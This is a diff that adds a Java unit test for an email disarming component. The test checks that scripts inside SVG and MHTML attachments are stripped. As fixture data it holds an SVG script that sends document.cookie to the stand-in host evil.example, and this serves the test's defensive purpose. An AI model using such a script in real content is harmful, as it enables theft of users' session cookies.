@@ -269,6 +269,32 @@ class DisarmTest {
     }
 
     @Test
+    void svgAndMhtmlAttachmentsLoseTheirScriptsAsHtmlAttachmentsDo() throws IOException {
+        String svg = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>location='https://evil.example/'+document.cookie"
+                + "</script><text>Invoice</text></svg>";
+        String mht = "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>location='https://evil.example/'</script>";
+        byte[] raw = ("From: a@example.net\r\nTo: b@example.co.jp\r\nSubject: invoice\r\nMIME-Version: 1.0\r\n"
+                + "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
+                + "--b\r\nContent-Type: image/svg+xml\r\nContent-Disposition: attachment; filename=\"invoice.svg\"\r\n"
+                + "Content-Transfer-Encoding: base64\r\n\r\n" + java.util.Base64.getMimeEncoder().encodeToString(
+                        svg.getBytes(StandardCharsets.US_ASCII)) + "\r\n"
+                + "--b\r\nContent-Type: application/octet-stream; name=\"page.mht\"\r\n"
+                + "Content-Disposition: attachment; filename=\"page.mht\"\r\n\r\n" + mht + "\r\n--b--\r\n")
+                .getBytes(StandardCharsets.US_ASCII);
+
+        byte[] out = rewrite(raw, DISARM);
+
+        ParsedMessage m = parse(out);
+        assertThat(m.parts()).extracting(MimePart::filename).containsExactly(null, "invoice.svg", "page.mht");
+        String whole = new String(out, StandardCharsets.ISO_8859_1);
+        assertThat(whole).doesNotContain("<script").doesNotContain(java.util.Base64.getMimeEncoder().encodeToString(
+                svg.getBytes(StandardCharsets.US_ASCII)).substring(0, 40));
+        assertThat(m.parts().subList(1, 3)).extracting(MimePart::contentType).containsOnly("text/html");
+        // what is left of each is readable text (not base64), so the absence of script above is meaningful
+        assertThat(whole).contains("Invoice").contains("filename=\"page.mht\"");
+    }
+
+    @Test
     void everyCorpusMessageCanBeDisarmedIntoValidMimeWithNoActiveHtmlLeft() throws IOException {
         List<String> failures = new java.util.ArrayList<>();
         int messages = 0;
